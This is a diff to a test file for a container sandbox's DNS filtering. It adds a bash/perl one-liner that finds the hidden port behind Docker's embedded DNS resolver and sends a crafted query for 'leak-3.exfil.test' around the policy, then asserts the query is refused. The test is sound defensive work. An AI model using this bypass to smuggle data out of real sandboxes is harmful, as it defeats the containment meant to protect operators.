@@ -3,6 +3,7 @@ on a user-defined network where the init resolves through Docker's embedded
 DNS (127.0.0.11, DNATed inside the container's own namespace)."""
 import json
 import os
+import re
 import subprocess
 import time
 
@@ -77,9 +78,21 @@ def test_the_sandbox_resolver_answers_only_allowed_names(dockerenv):
                check=False)
     assert "rc=2" in r.stdout, r.stdout + r.stderr          # getent: not found
     assert "rcode=3" in r.stdout, r.stdout + r.stderr       # NXDOMAIN, from the sandbox's resolver
+    # Docker's embedded DNS on its own port behind 127.0.0.11 (what its NAT
+    # rule for port 53 leads to), asked directly: refused, never forwarded.
+    r = docker("exec", name, "bash", "-c",
+               "port=$((16#$(awk '$2 ~ /^0B00007F:/ {split($2, a, \":\"); print a[2]; exit}' /proc/net/udp)));"
+               "echo port=$port;"
+               "perl -MIO::Socket::INET -e '"
+               "my $q = pack(\"nnnnnn\", 0x1234, 0x0100, 1, 0, 0, 0);"
+               "$q .= chr(length $_) . $_ for split /\\./, \"leak-3.exfil.test\"; $q .= pack(\"Cnn\", 0, 1, 1);"
+               "my $s = IO::Socket::INET->new(Proto => \"udp\", PeerAddr => \"127.0.0.11\", PeerPort => $ARGV[0]) or die;"
+               "print $s->send($q) ? \"sent\\n\" : \"send-refused: $!\\n\"' $port",
+               check=False)
+    assert re.search(r"port=[1-9]", r.stdout) and "send-refused" in r.stdout, r.stdout + r.stderr
     dns_log = dockerenv.dns_log()
     assert "wild.test" in dns_log, "the allowed names were asked upstream"
-    assert "leak-" not in dns_log, dns_log
+    assert "leak-" not in dns_log, dns_log     # leak-1, -2 and -3: none reached the server
     logs = docker("logs", name).stderr
     assert "refused DNS query leak-1.exfil.test (A): not in the policy" in logs, logs
 
